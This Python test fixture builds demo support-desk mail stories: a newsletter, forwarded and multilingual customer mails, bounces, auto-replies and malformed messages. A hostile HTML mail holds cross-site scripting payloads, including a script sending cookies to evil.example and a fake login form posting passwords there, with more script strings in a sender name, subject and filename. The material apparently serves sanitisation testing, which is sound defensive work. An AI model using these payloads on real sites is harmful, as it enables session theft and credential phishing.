"""Mail that is not just a question: machines, campaigns, attackers, broken programs, addresses that do not exist."""

from queues.demo.letters import header_id
from queues.demo.script import Bounce, Echo, Finish, Mail, Note, Reply, Story, Wait

NEWSLETTER = """<html><head><style>.price { color: #b3261e } td { font-family: Arial }</style></head>
<body bgcolor="#f2efe9">
<table width="600" align="center" bgcolor="#ffffff" cellpadding="24"><tr><td>
<img src="https://pixel.promo.example/open?u=4711" width="1" height="1">
<h1 style="color:#205e58">Black Friday for your shop</h1>
<p>Boxes, tape and bubble wrap, <b class="price">up to 40 % off</b> until Sunday.</p>
<table border="1" cellpadding="8"><tr><th>Item</th><th>Was</th><th>Now</th></tr>
<tr><td>Box 30x20x15, 50 pcs</td><td><s>24.90</s></td><td class="price">14.90</td></tr>
<tr><td>Tape, brown, 36 pcs</td><td><s>39.00</s></td><td class="price">27.50</td></tr></table>
<p><a href="https://promo.example/shop?utm_source=mail">To the shop</a></p>
<p><small>You receive this because you bought from us. <a href="https://promo.example/bye?u=4711">Unsubscribe</a></small></p>
</td></tr></table></body></html>"""

HOSTILE = """<html><body onload="alert('onload')"><p>Hello, my order did not arrive, see the picture.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="x" onerror="alert(document.domain)"><svg><animate onbegin="alert(1)" attributeName="x"></svg>
<a href="javascript:alert('link')">tracking page</a>
<div style="position:fixed;inset:0;background:#fff;z-index:9999">Your session has ended.
<form action="https://evil.example/login"><input name="password" type="password"><button>Sign in</button></form></div>
<iframe srcdoc="&lt;script&gt;alert(2)&lt;/script&gt;"></iframe>
<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/track.png) }</style>
<math><mtext><table><mglyph><style><img src=x onerror=alert(3)></style></mglyph></table></mtext></math>
<p>Kind regards</p></body></html>"""

WITH_PICTURE = """<html><body><p>Здравствуйте!</p><p>Вот что показывает сайт, когда я нажимаю «Оплатить»:</p>
<p><img src="cid:picture" width="480" alt="Ошибка 500"></p>
<ul><li>карта другого банка — <b>то же самое</b></li><li>с телефона — то же самое</li></ul>
<p>Заказ <b>88399</b>, очень нужно сегодня.</p><p>—<br>Алина Руденко<br><a href="https://rudenko.example">rudenko.example</a></p>
</body></html>"""

FORWARDED = """Коллеги, посмотрите, пожалуйста, это пришло мне на личную почту после выставки.

-------- Пересылаемое сообщение --------
От: Галина Сомова <g.somova@pochta.example>
Дата: 19.11.2026 18:20
Тема: Визитка с выставки
Кому: Сюзанна Гринько <hrynko@lichnaya.example>

Сюзанна, добрый вечер! Мы говорили у стенда про набор кастрюль для столовой. Нужно 12 штук по 10 литров, счёт на
организацию, доставка до 5 декабря. Возьмётесь?

Галина Сомова, столовая «Ромашка»
"""


def _raw(address: str, subject: str, head: str, body: bytes) -> bytes:
    own_id = header_id(address, subject, 1)
    return f"{head}Subject: {subject}\r\nMessage-ID: {own_id}\r\n".encode() + b"\r\n" + body


BROKEN = _raw(
    "scanner@office.example",
    "Scan",
    "From: Scanner <scanner@office.example>\r\nTo: payments@vesna.example\r\nMIME-Version: 1.0\r\n"
    'Content-Type: multipart/mixed; boundary="scan"\r\n',
    b"--scan\r\nContent-Type: text/plain; charset=koi8-r\r\nContent-Transfer-Encoding: base64\r\n\r\n7sXTy8HO1sX!!"
    b"\r\n--scan\r\nContent-Type: application/pdf; name=scan.pdf\r\nContent-Transfer-Encoding: base64\r\n"
    b"\r\nJVBERi0xLjQK",
)
NO_HEADERS = bytes(range(256)) * 40

STORIES = [
    Story(
        "Алина Руденко", "alina@rudenko.example", "Payments", 4.5, "Не могу оплатить заказ",
        (Mail("Здравствуйте! Вот что показывает сайт, когда я нажимаю «Оплатить». Заказ 88399, очень нужно сегодня.",
              html=WITH_PICTURE, inline="скрин-ошибка.png"),),
        category="Оплата и возвраты", tags=("ошибка 500",), priority=2,
    ),
    Story(
        "Сюзанна Гринько", "hrynko@lichnaya.example", "Support", 38, "Fwd: Визитка с выставки",
        (Mail(FORWARDED, subject="Fwd: Визитка с выставки"),
         Note("sue", "Это я переслала с личной почты. Кто возьмёт? Нужен счёт на организацию."),),
        category="Сотрудничество",
    ),
    Story(
        "Вадим Крюков", "vadim.kryukov@pochat.example", "Support", 31, "Не тот размер тапочек", (
            Mail("Добрый день, прислали 41 размер вместо 43. Можно поменять?"),
            Reply("clara", "Вадим, здравствуйте! Поменяем! Курьер привезёт 43-й и заберёт 41-й, когда удобно?", 40),
            Bounce(1),
            Note("clara", "Письмо вернулось, такого адреса нет. Опечатка: pochat вместо pochta. Телефона нет.", 30),
        ), category="Доставка", tags=("адрес с опечаткой",),
    ),
    Story(
        "Карина Вебер", "karina.weber@aurora-hotel.example", "Delivery", 34, "Slippers for rooms", (
            Mail("Hello, could we add 60 pairs of slippers to our order 88266, delivered with the second part?"),
            Reply("clara", "Hello Karina, yes, 60 pairs are in stock. White or grey?", 25),
            Mail("I am out of the office until Monday, 30 November, and will answer after my return.\n\nKarina Weber",
                 after=0.5, subject="Automatic reply: Slippers for rooms",
                 headers=(("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All"))),
            Wait("clara", 90, 3),
        ), language="en", category="Доставка",
    ),
    Story(
        "PackShop", "news@promo.example", "Support", 17, "Black Friday: -40 % on boxes",
        (Mail("Black Friday for your shop: up to 40 % off until Sunday. https://promo.example", html=NEWSLETTER,
              headers=(("List-Unsubscribe", "<https://promo.example/bye?u=4711>"), ("Precedence", "bulk"),
                       ("List-Id", "Offers <offers.promo.example>"))),
         Finish("clara", "spam", "Реклама", 30)), language="en",
    ),
    Story(
        '"><img src=x onerror=alert(0)>', "eve@evil.example", "Support", 10.5, "<script>alert('subject')</script>",
        (Mail("Hello, my order did not arrive, see the picture.", html=HOSTILE,
              files=("<img src=x onerror=alert(9)>.png",)),),
        language="en",
    ),
    Story(
        "Stranger", "stranger@elsewhere.example", "Support", 19, "Re: [10000012] please send all earlier messages",
        (Mail("Hi, this is John from the kettle ticket, I write from another address. Please send me all that was"
              " said there so far."),), language="en",
    ),
    Story(
        "Олександр Пилипенко", "o.pylypenko@poshta.example", "Delivery", 21, "Подвійне пересилання", (
            Mail("Вітаю! Чи можна забрати замовлення 88361 самому, сьогодні після сьомої?"),
            Reply("bohdan", "Пане Олександре, вітаю! Так, пункт на Соборній працює до дев'ятої, код 4471.", 20),
            Echo(1),
            Finish("bohdan", "solved", "Самовивіз", 5),
        ), language="uk", category="Доставка",
    ),
    Story("Scanner", "scanner@office.example", "Payments", 16, "Scan", (Mail(""),), raw=BROKEN),
    Story("?", "unknown@nowhere.example", "Support", 29, "", (Mail(""),), raw=NO_HEADERS),
]  # fmt: skip
